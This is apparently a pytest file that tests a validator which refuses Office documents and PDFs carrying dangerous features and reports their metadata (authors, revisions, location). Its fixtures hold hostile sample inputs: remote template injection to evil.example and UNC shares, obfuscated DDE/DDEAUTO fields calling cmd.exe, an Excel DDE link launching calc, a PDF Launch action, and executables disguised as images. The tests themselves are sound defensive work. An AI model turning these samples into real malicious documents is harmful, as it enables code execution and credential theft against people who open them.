"""Office files and PDFs are looked through as the programs read them, not as their bytes look."""

import pytest

from rectify.reading.formats.handed_in import extract
from rectify.reading.formats.limits import DEFAULT_LIMITS
from rectify.reading.formats.refusals import Refusal
from tests.ledger.evidence.files import pdf, picture, with_parts
from tests.reading.formats.documents import saved, word, workbook

BASE = saved(word("巡护记录已补齐"))
SHEET = saved(workbook([["编号"], [1]]))
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600
W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
TYPES = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
TEMPLATE = f'<Relationship Id="r1" Type="{TYPES}/attachedTemplate" Target="https://evil.example/x.dotm" TargetMode="External"/>'
PLACE = "word/_rels/settings.xml.rels"


def relations(*rows: str) -> str:
    space = "http://schemas.openxmlformats.org/package/2006/relationships"
    return f'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="{space}">{"".join(rows)}</Relationships>'


def leading_out(kind: str, target: str) -> dict[str, str]:
    row = f'<Relationship Id="r1" Type="{TYPES}/{kind}" Target="{target}" TargetMode="External"/>'
    return {PLACE: relations(row)}


def footer(*runs: str) -> dict[str, str]:
    return {"word/footer1.xml": f'<?xml version="1.0"?><w:ftr {W}><w:p>{"".join(runs)}</w:p></w:ftr>'}


def said(text: str) -> str:
    return f"<w:r><w:instrText>{text}</w:instrText></w:r>"


def mark(kind: str) -> str:
    return f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>'


BAD = {
    "a template in UTF-16": {PLACE: relations(TEMPLATE).replace("UTF-8", "UTF-16").encode("utf-16")},
    "a type with a reference": {PLACE: relations(TEMPLATE.replace("Template", "Templ&#97;te"))},
    "a mode with a reference": {PLACE: relations(TEMPLATE.replace("External", "Ext&#101;rnal"))},
    "a mark in the target": {PLACE: relations(TEMPLATE.replace("x.dotm", "x.dotm?a>b"))},
    "spaces around the sign": {PLACE: relations(TEMPLATE.replace("=", " = "))},
    "no mode": {PLACE: relations(TEMPLATE.replace(' TargetMode="External"', ""))},
    "a template on a share": leading_out("attachedTemplate", r"file:///\\evil\share\x.dotm"),
    "a picture on a share": leading_out("image", r"\\evil\share\x.png"),
    "a picture on a share by a web address": leading_out("image", "//evil/share/x.png"),
    "a template on a share, disguised": leading_out("attachedTemplate", "%5C%5Cevil%5Cx.dotm"),
    "a relation that nobody knows": leading_out("somethingNew", "https://evil.example/"),
    "a relation to macros": {PLACE: relations(f'<Relationship Id="r1" Type="{TYPES}/vbaProject" Target="foo.bin"/>')},
    "a field in two runs": footer(mark("begin"), said("DD"), said("EAUTO c:\\cmd.exe"), mark("end")),
    "a field with a reference": footer(mark("begin"), said("&#68;DEAUTO c:\\cmd.exe"), mark("separate")),
    "a field within another": footer(mark("begin"), said("IF"), mark("begin"), said(" dde cmd"), mark("end"), said("x")),
    "a short field": footer('<w:fldSimple w:instr=" DDE cmd"/>'),
    "macros by another name": {"word/foo.bin": OLE},
    "a program by a strange name": {"word/embeddings/x.scr": b"MZ" + b"\0" * 90},
    "a program as a picture": {"word/media/x.png": b"MZ" + b"\0" * 90},
    "a web page": {"word/afchunk.html": b"<html><script>1</script></html>"},
    "a document in a document": {"word/embeddings/a.docx": with_parts(BASE, footer(mark("begin"), said("DDE cmd")))},
    "XML by another name": {
        "[Content_Types].xml": '<Types><Override PartName="/word/a.bin" ContentType="wordprocessingml.main+xml"/></Types>'
    },
}  # fmt: skip


@pytest.mark.parametrize("kind", BAD)
def test_what_starts_or_fetches_something_is_found(kind: str) -> None:
    with pytest.raises(Refusal) as refusal:
        extract(with_parts(BASE, BAD[kind]), DEFAULT_LIMITS)
    assert refusal.value.code in ("embedded_program", "fetches", "two_natures", "entities")


@pytest.mark.parametrize("element", ["ddeLink", "x:ddeLink"])
def test_a_workbook_that_starts_a_program_is_found(element: str) -> None:
    link = f'<externalLink><{element} ddeService="cmd" ddeTopic="/c calc"/></externalLink>'
    with pytest.raises(Refusal):
        extract(with_parts(SHEET, {"xl/externalLinks/externalLink1.xml": link}), DEFAULT_LIMITS)


GOOD = {
    "a link": leading_out("hyperlink", "https://qingshi.example/?a=1&amp;b=2"),
    "a picture that was pasted from a page": leading_out("image", "https://qingshi.example/a.png"),
    "a picture that was pasted from a program": leading_out("image", r"file:///C:\Users\ADMINI~1\Temp\wps1.jpg"),
    "a picture that is lost": leading_out("image", "NULL"),
    "a picture beside the document": leading_out("image", "../Temp/%E5%9B%BE.png"),
    "another workbook": leading_out("externalLinkLongPath", "https://qingshi.example/a.xlsx"),
    "the writer's own template": leading_out("attachedTemplate", r"file:///C:\Users\li\Templates\a.dotx"),
    "a chart with its figures": {"word/embeddings/Microsoft_Excel_Sheet1.xlsx": SHEET},
    "fonts and the settings of a printer": {"word/fonts/font1.odttf": b"\x12\x13", "word/printerSettings1.bin": b"H\0P\0"},
    "a picture called as its page called it": {"word/media/image1.ashx": picture("PNG")},
    "an old drawing that is not well-formed": {"word/drawing1.vml": "<xml><v:shape><br></v:shape></xml>"},
    "fields that count": footer(mark("begin"), said(' HYPERLINK "http://a/DDE" '), mark("end"), said("PAGE")),
    "folders": {"word/media/": b""},
    "the properties of WPS": {
        "docProps/custom.xml": '<Properties><property name="KSOProductBuildVer"/><property name="ICV"/></Properties>'
    },
}  # fmt: skip


@pytest.mark.parametrize("kind", GOOD)
def test_what_office_programs_write_is_taken(kind: str) -> None:
    found = extract(with_parts(BASE, GOOD[kind]), DEFAULT_LIMITS)
    assert (found.kind, found.carries) == ("docx", ["authors"])


CORE = '<c:coreProperties xmlns:c="http://schemas.openxmlformats.org/package/2006/metadata/core-properties"/>'
CARRIED = {
    "nothing": ({}, []),
    "deletions in a header": (
        {"word/header9.xml": f'<w:hdr {W}><w:del w:id="1" w:author="王某"><w:r><w:delText>x</w:delText></w:r></w:del></w:hdr>'},
        ["revisions"],
    ),
    "who is in charge": ({"docProps/app.xml": "<Properties><Company/><Manager>王某</Manager></Properties>"}, ["authors"]),
    "a company": ({"docProps/app.xml": "<Properties><Company>某局</Company></Properties>"}, ["company"]),
    "properties of one's own": ({"docProps/custom.xml": '<Properties><property name="经办"/></Properties>'}, ["properties"]),
    "an author by another prefix": ({"docProps/core.xml": CORE.replace("/>", "><d:creator>王</d:creator></c:coreProperties>")
                                     .replace("xmlns:c", 'xmlns:d="http://purl.org/dc/elements/1.1/" xmlns:c')}, ["authors"]),
    "remarks": ({"word/remarks.xml": f"<w:comments {W}><w:comment w:id='1'/></w:comments>"}, ["comments"]),
    "no remarks": ({"word/comments.xml": f"<w:comments {W}/>"}, []),
    "a place": ({"word/media/a.JPEG": picture(position=True)}, ["position"]),
    "an author of a workbook within": ({"word/embeddings/a.xlsx": SHEET}, ["authors"]),
}  # fmt: skip


@pytest.mark.parametrize("kind", CARRIED)
def test_what_it_carries_is_told_wherever_it_stands(kind: str) -> None:
    parts, carries = CARRIED[kind]
    clean = with_parts(BASE, {"docProps/core.xml": CORE, "docProps/app.xml": "<Properties/>"})
    assert extract(with_parts(clean, parts), DEFAULT_LIMITS).carries == carries


def test_an_action_of_a_pdf_is_followed_to_its_name() -> None:
    launch = pdf("/OpenAction << /S 4 0 R /F (cmd.exe) >>", further=["/Launch"])
    with pytest.raises(Refusal, match="Launch"):
        extract(launch, DEFAULT_LIMITS)
    # One that leads in circles, or to nothing, does nothing.
    for action in ("<< /S 4 0 R >>", "<< /S 9 0 R >>"):
        assert extract(pdf(f"/OpenAction {action}", further=["4 0 R"]), DEFAULT_LIMITS).kind == "pdf"
